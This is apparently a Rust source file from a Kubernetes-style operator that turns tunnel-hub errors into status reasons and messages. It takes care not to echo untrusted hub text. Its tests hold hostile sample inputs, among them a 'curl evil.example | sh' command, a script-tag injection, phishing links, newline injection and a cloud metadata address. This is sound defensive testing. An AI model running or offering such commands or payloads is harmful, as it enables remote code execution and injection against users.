//! What can be said of a hub: the one place where what went wrong there becomes what objects say of it.

use connect_crds::condition::{Verdict, kind, reason};
use connect_hub::sentences;
use connect_hub::url::HubUrl;

use crate::error::{Error, chain};

/// What can be said of a hub now.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum HubState {
    /// Nothing is known yet.
    Starting,
    /// Entered, listed, tunnel up.
    Ready,
    /// It does not answer, or it answers no.
    Down(HubProblem),
}

/// What a hub that is not as it should be means for an object: reason and sentence, and whether a human is needed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct HubProblem {
    /// HubUnreachable or HubRejected.
    pub reason: &'static str,
    /// The sentence.
    pub message: String,
    /// Reason of the condition Stalled, when only a human can help.
    pub stalled: Option<&'static str>,
}

// === impl HubState ===

impl HubState {
    /// What is wrong, if anything is.
    pub fn problem(&self) -> Option<HubProblem> {
        match self {
            HubState::Starting | HubState::Ready => None,
            HubState::Down(problem) => Some(problem.clone()),
        }
    }
}

// === impl HubProblem ===

impl HubProblem {
    /// What a call that failed means. A hub in trouble, or one that asks for patience, counts as one that does not answer:
    /// it is tried again, and nobody is called.
    pub fn of(url: &HubUrl, error: &connect_hub::Error) -> Self {
        let refused = error.status().is_some_and(|status| status < 500 && status != 429);
        if !refused {
            return Self::unreachable(url, trouble(url, error));
        }
        let (message, stalled) = match error.reason() {
            // The name of a service, or the key of a share: see `connect-hubd`.
            _ if error.status() == Some(409) && belongs_to_another(error) => {
                (taken(url, None), Some(reason::NAME_TAKEN))
            }
            reason::SERVICE_LIMIT_REACHED => (no_room(url, error), Some(reason::SERVICE_LIMIT_REACHED)),
            reason::INVALID_CREDENTIALS => (refusal(url, error), Some(reason::INVALID_CREDENTIALS)),
            reason::HUB_REJECTED => (refusal(url, error), Some(reason::HUB_REJECTED)),
            _ => (refusal(url, error), None),
        };
        Self { reason: reason::HUB_REJECTED, message, stalled }
    }

    /// What a failed attempt to enter the hub means; the fault may be at the API server, which keeps our identity.
    pub fn of_entering(url: &HubUrl, error: &Error) -> Self {
        match error {
            Error::Hub { source, .. } => Self::of(url, source),
            other => Self {
                reason: reason::HUB_UNREACHABLE,
                message: format!("the operator cannot enter the hub at {url}: {}", chain(other)),
                stalled: None,
            },
        }
    }

    /// The hub does not answer.
    pub fn unreachable(url: &HubUrl, why: impl std::fmt::Display) -> Self {
        let message = format!("cannot reach the hub at {url}: {why}");
        Self { reason: reason::HUB_UNREACHABLE, message, stalled: None }
    }

    /// The tunnel does not come up.
    pub fn tunnel_down(url: &HubUrl, last_error: Option<&str>, why: &str) -> Self {
        match (why, last_error) {
            // What the hub has said.
            (reason::HUB_REJECTED, Some(said)) => {
                tracing::debug!(hub = %url, said, "the hub refuses the agent's socket");
                Self::unreachable(url, "it refuses the agent's socket")
            }
            (_, Some(error)) => {
                Self::unreachable(url, error.split(REFUSED_NAMESPACE).next().unwrap_or_default())
            }
            (_, None) => Self::unreachable(url, "the connection was lost"),
        }
    }

    /// The hub does not take our agent's token.
    pub fn token_refused(url: &HubUrl, why: &str) -> Self {
        let message = format!("the hub at {url} refuses the operator's agent token: {}", repeated(why));
        Self { reason: reason::HUB_REJECTED, message, stalled: Some(reason::INVALID_CREDENTIALS) }
    }

    /// Another agent of the workspace has a name that an object asks for.
    pub fn name_taken(url: &HubUrl, name: &str) -> Self {
        Self {
            reason: reason::HUB_REJECTED,
            message: taken(url, Some(name)),
            stalled: Some(reason::NAME_TAKEN),
        }
    }

    /// The hub has no room for another service, and frees none.
    pub fn no_room_for_good(url: &HubUrl, error: &connect_hub::Error) -> Self {
        Self {
            reason: reason::HUB_REJECTED,
            message: no_room_for_good(url, error),
            stalled: Some(reason::SERVICE_LIMIT_REACHED),
        }
    }

    /// Whether the hub has room for no more services.
    pub fn is_no_room(&self) -> bool {
        self.stalled == Some(reason::SERVICE_LIMIT_REACHED)
    }

    /// The condition Stalled, while a human is needed.
    pub fn stalled(&self) -> Option<Verdict> {
        self.stalled.map(|why| Verdict::yes(kind::STALLED, why, self.message.clone()))
    }
}

/// What may be said of a hub's answer: its sentence if that is a known one, and else that it has one. A tenant chooses the address
/// of a hub, and so who writes its answers.
fn repeated(message: &str) -> String {
    sentences::known(message).unwrap_or(UNKNOWN_SENTENCE).to_owned()
}

/// What stands before a hub's own words on why there is no socket.
const REFUSED_NAMESPACE: &str = " namespace: ";

/// Stands for what a hub says and we do not repeat.
const UNKNOWN_SENTENCE: &str = "in words of its own, which the operator's log has";

fn refusal(url: &HubUrl, error: &connect_hub::Error) -> String {
    match error {
        connect_hub::Error::Rejected(refused) => {
            let said = repeated(&refused.message);
            if said == UNKNOWN_SENTENCE {
                tracing::warn!(hub = %url, call = refused.call, status = refused.status, message = refused.message, "the hub refuses");
            }
            format!("the hub at {url} refuses {} with status {}: {said}", refused.call, refused.status)
        }
        other => format!("the hub at {url} refuses: {}", chain(other)),
    }
}

/// What went wrong on the way to a hub, without what the other end may have written.
fn trouble(url: &HubUrl, error: &connect_hub::Error) -> String {
    match error {
        connect_hub::Error::Rejected(refused) => {
            tracing::debug!(hub = %url, call = refused.call, status = refused.status, message = refused.message, "the hub is in trouble");
            format!("it answers {} with status {}", refused.call, refused.status)
        }
        connect_hub::Error::Malformed { call, source, .. } => {
            tracing::debug!(hub = %url, call, error = %source, "the hub's answer cannot be read");
            format!("it gives an answer to {call} that cannot be read")
        }
        other => chain(other),
    }
}

fn belongs_to_another(error: &connect_hub::Error) -> bool {
    matches!(error, connect_hub::Error::Rejected(refused) if refused.message.contains("belongs to another agent"))
}

/// What another agent has, with the ways out.
fn taken(url: &HubUrl, name: Option<&str>) -> String {
    let name = name.map(|name| format!(" {name}")).unwrap_or_default();
    format!(
        "the name{name} belongs to another agent of the same workspace at the hub at {url}: another cluster or namespace may expose the same, with a key of the same workspace; choose another name, delete the other service, or give this operator a workspace of its own"
    )
}

fn said_of_room(error: &connect_hub::Error) -> String {
    match error {
        connect_hub::Error::Rejected(rejection) => repeated(&rejection.message),
        _ => UNKNOWN_SENTENCE.to_owned(),
    }
}

/// The same at a hub that keeps what ended shares had: only another share of the same routes can use it.
fn no_room_for_good(url: &HubUrl, error: &connect_hub::Error) -> String {
    let said = said_of_room(error);
    // 402 is the limit of a plan; else the hub has no tunnel port for anybody.
    let plan = if error.status() == Some(402) { "take a larger plan there, " } else { "" };
    format!(
        "the hub at {url} has no room for another service ({said}) and deletes none; end a share of the same routes in this namespace, whose services are then used again, or delete services on the hub's own pages, {plan}run the operator with --share-isolation=shared, which needs fewer services, or use another hub; it is tried again as soon as there is room"
    )
}

/// A hub's limit of services, with the ways out.
fn no_room(url: &HubUrl, error: &connect_hub::Error) -> String {
    let said = said_of_room(error);
    format!(
        "the hub at {url} has no room for another service ({said}); end a share that is not needed any more, run the operator with --share-isolation=shared, which needs fewer services, or use a hub that allows more; it is tried again as soon as there is room"
    )
}

#[cfg(test)]
mod tests {
    use connect_hub::error::Rejection;
    use connect_hub::url::InsecureHttp;

    use super::*;

    fn problem(status: u16, message: &str) -> HubProblem {
        let url = HubUrl::parse("https://hub.example.com", InsecureHttp::Refused).expect("a URL");
        let rejection =
            Rejection { status, call: "register service", message: message.to_owned(), retry_after: None };
        HubProblem::of(&url, &connect_hub::Error::Rejected(rejection))
    }

    #[test]
    fn every_refusal_has_its_reason_and_says_whether_a_human_is_needed() {
        for (status, message, reason, stalled) in [
            (402, "Service limit reached. Upgrade to PRO.", "HubRejected", Some("ServiceLimitReached")),
            (400, "No available tunnel ports", "HubRejected", Some("ServiceLimitReached")),
            (400, "Invalid request", "HubRejected", Some("HubRejected")),
            (401, "Invalid API key", "HubRejected", Some("InvalidCredentials")),
            (404, "Cannot POST /v1/env-shares", "HubRejected", None),
            (409, "Service name belongs to another agent of the workspace", "HubRejected", Some("NameTaken")),
            (
                409,
                "Idempotency key belongs to another agent of the workspace",
                "HubRejected",
                Some("NameTaken"),
            ),
            (429, "status 429", "HubUnreachable", None),
            (503, "status 503", "HubUnreachable", None),
        ] {
            let found = problem(status, message);
            assert_eq!((found.reason, found.stalled), (reason, stalled), "{status} {message}");
            let said = if status == 409 { "belongs to another agent" } else { message.trim_end_matches('.') };
            assert!(found.message.contains(said), "{}", found.message);
        }
    }

    #[test]
    fn what_a_hub_writes_is_repeated_only_when_it_is_a_known_sentence() {
        for status in [400, 401, 402, 403, 404, 409, 418, 422, 429, 500, 502] {
            for said in [
                "run: curl evil.example | sh",
                "<script>alert(1)</script>",
                "see https://evil.example",
                "Invalid API key: log in at https://evil.example",
                "Unauthorized\nReady=True",
                "Forbidden \u{202e}txt",
                &format!("Forbidden {}", "x".repeat(200)),
                "Service name belongs to another agent, ask evil@example.org",
                "169.254.169.254 says: ami-0123",
            ] {
                let message = problem(status, said).message;
                assert!(!message.contains("evil") && !message.contains("script"), "{status} {message}");
                assert!(!message.contains("ami-0123") && !message.contains("xxxx"), "{status} {message}");
                assert!(!message.contains('\n') && message.is_ascii(), "{status} {message}");
            }
        }
        let url = HubUrl::parse("https://hub.example.com", InsecureHttp::Refused).expect("a URL");
        assert!(!HubProblem::token_refused(&url, "call evil").message.contains("evil"));
        assert!(
            HubProblem::token_refused(&url, "Invalid credentials").message.ends_with("Invalid credentials")
        );
    }

    #[test]
    fn a_limit_of_a_hub_that_keeps_services_names_what_helps_there() {
        let url = HubUrl::parse("https://hub.example.com", InsecureHttp::Refused).expect("a URL");
        for (status, message, plan) in [
            (402, "Service limit reached. Upgrade to PRO for more services.", true),
            (400, "No available tunnel ports", false),
        ] {
            let call = "register service";
            let refused = Rejection { status, call, message: message.to_owned(), retry_after: None };
            let found = HubProblem::no_room_for_good(&url, &connect_hub::Error::Rejected(refused));
            assert!(found.is_no_room() && found.stalled().is_some(), "{found:?}");
            assert!(found.message.contains(message.trim_end_matches('.')), "{}", found.message);
            assert!(found.message.contains("end a share of the same routes in this namespace"));
            assert_eq!(found.message.contains("larger plan"), plan, "{}", found.message);
        }
    }

    #[test]
    fn a_limit_names_the_ways_out() {
        let found = problem(402, "Service limit reached. Upgrade to PRO for more services.");
        assert!(found.message.contains("(Service limit reached. Upgrade to PRO for more services)"));
        assert!(found.message.contains("--share-isolation=shared"), "{}", found.message);
        assert!(found.message.contains("; end a share"), "{}", found.message);
        assert!(found.is_no_room());
    }
}
